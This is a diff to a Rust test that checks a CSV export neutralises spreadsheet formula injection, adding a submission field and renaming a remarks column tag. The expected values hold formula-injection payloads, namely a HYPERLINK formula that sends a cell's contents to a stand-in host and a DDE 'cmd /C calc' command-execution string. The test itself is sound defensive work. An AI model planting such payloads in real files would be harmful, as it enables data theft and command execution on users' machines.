@@ -291,6 +291,7 @@ async fn csv_cells_that_would_be_formulas_are_neutralised() {
         late: false,
         person_id: person.id,
         now,
+        boundaries: "2021",
     };
     reports::submit(&db, submission).await.unwrap();
     db.close().await;
@@ -301,10 +302,10 @@ async fn csv_cells_that_would_be_formulas_are_neutralised() {
     let rows = csv_rows(&std::fs::read(&out_file).unwrap());
     let col = |tag: &str| rows[1].iter().position(|t| t == tag).unwrap();
     let (first, second) = (&rows[2], &rows[3]);
-    assert_eq!(first[col("#meta+remarks")], "'=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")");
+    assert_eq!(first[col("#description+remarks")], "'=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")");
     assert_eq!(first[col("#org+impl")], "'+cmd|' /C calc'!A0");
     assert_eq!(first[col("#org+funder")], "'@SUM(1+1)");
-    assert_eq!(second[col("#meta+remarks")], "'-2+3");
+    assert_eq!(second[col("#description+remarks")], "'-2+3");
     assert_eq!(second[col("#org+impl")], "'\tTAB");
     assert_eq!(second[col("#org+funder")], "'\rCR");
     // No cell of the file starts a formula.
